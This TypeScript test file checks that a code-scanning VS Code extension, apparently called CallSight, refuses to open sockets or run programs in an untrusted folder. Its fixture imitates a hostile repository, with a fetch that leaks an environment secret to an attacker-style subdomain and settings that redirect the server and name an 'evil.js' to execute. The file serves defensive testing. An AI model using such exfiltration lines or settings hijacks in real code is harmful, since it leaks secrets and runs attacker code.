import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Editor, root, uriOf } from './editor';
import { makeWorkspace, removeWorkspaces } from './workspace';

const manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
const properties: Record<string, { scope: string }> = manifest.contributes.configuration.properties;

/** A repository that would like to be noticed: hosts of its own, and settings that switch everything on. */
const hostile = {
  'a.ts': `fetch('https://beacon-4711.parcelhub.io/x');\nfetch(\`https://\${process.env.SECRET}.parcelhub.io\`);\n`,
  '.env': 'SECRET=hunter2\nAPI_URL=https://env.parcelhub.io\n',
  'callsight.json': '{ "version": 1, "hosts": [] }\n',
  '.vscode/settings.json': JSON.stringify({
    'callsight.network': 'probe',
    'callsight.server.url': 'http://evil.parcelhub.io',
    'callsight.serverPath': './evil.js',
  }),
  'evil.js': `require('node:fs').writeFileSync('executed', '1');\n`,
};

describe('a folder that is not trusted', function () {
  this.timeout(60_000);
  afterEach(removeWorkspaces);

  it('[W006] makes the server open no socket, ask no name and start no process', async () => {
    const workspace = makeWorkspace(hostile);
    const counts = makeWorkspace();
    const editor = await Editor.open({
      folders: [workspace.folder],
      nodeArguments: ['--require', join(root, 'test/lsp/countSockets.cjs')],
      env: { CALLSIGHT_COUNT_FILE: counts.path('counts.json') },
    });
    const uri = uriOf(workspace.path('a.ts'));
    editor.open(uri, hostile['a.ts']);
    await editor.diagnostics(uri, 1);
    await editor.hover(uri, { line: 0, character: 15 });
    await editor.actions(uri, { line: 0, character: 15 });
    await editor.request('callsight/scanWorkspace', {});
    await editor.request('callsight/checkHost', { target: 'https://beacon-4711.parcelhub.io' });
    await editor.request('callsight/report', { format: 'html' });
    await editor.quit();
    assert.deepEqual(JSON.parse(readFileSync(counts.path('counts.json'), 'utf8')), {});
  });

  it('the probe of the test above does count', async () => {
    const counts = makeWorkspace();
    const call = encodeURIComponent("import net from 'node:net'; net.connect(9, '127.0.0.1').on('error', () => {});");
    const editor = await Editor.open({
      nodeArguments: ['--require', join(root, 'test/lsp/countSockets.cjs'), '--import', `data:text/javascript,${call}`],
      env: { CALLSIGHT_COUNT_FILE: counts.path('counts.json') },
    });
    await editor.quit();
    const seen = JSON.parse(readFileSync(counts.path('counts.json'), 'utf8'));
    assert.ok(seen.connect >= 1, JSON.stringify(seen));
  });

  it('[W002] cannot switch probing on: no setting that a folder may set reaches the network', () => {
    const open = Object.keys(properties).filter((name) => /network|server\.url|lists|proxy/.test(name));
    assert.deepEqual(
      open.filter((name) => !['application', 'machine'].includes(properties[name]?.scope ?? '')),
      [],
    );
  });

  it('[W003] cannot name a program to run: there is no such setting', () => {
    assert.deepEqual(
      Object.keys(properties).filter((name) => /path|args|command|node/i.test(name)),
      [],
    );
  });

  it('cannot switch CallSight off, make a rule quiet or ask for less', () => {
    const { supported, restrictedConfigurations } = manifest.capabilities.untrustedWorkspaces;
    assert.equal(supported, 'limited');
    assert.deepEqual(restrictedConfigurations, ['callsight.enabled', 'callsight.minimumScore', 'callsight.severity']);
  });

  it('[W007] that is no folder on disk is served file by file: nothing is read', async () => {
    assert.equal(manifest.capabilities.virtualWorkspaces.supported, 'limited');
    const editor = new Editor();
    await editor.request('initialize', {
      capabilities: {},
      workspaceFolders: [{ uri: 'vscode-vfs://github/acme/shop', name: 'shop' }],
    });
    editor.notify('initialized', {});
    const status = await editor.request('callsight/scanWorkspace', {});
    assert.deepEqual([status.files, status.calls], [0, 0]);
    await editor.quit();
  });

  it('[W008] is looked at where the code is: the extension runs beside the workspace', () => {
    assert.deepEqual(manifest.extensionKind, ['workspace']);
  });
});
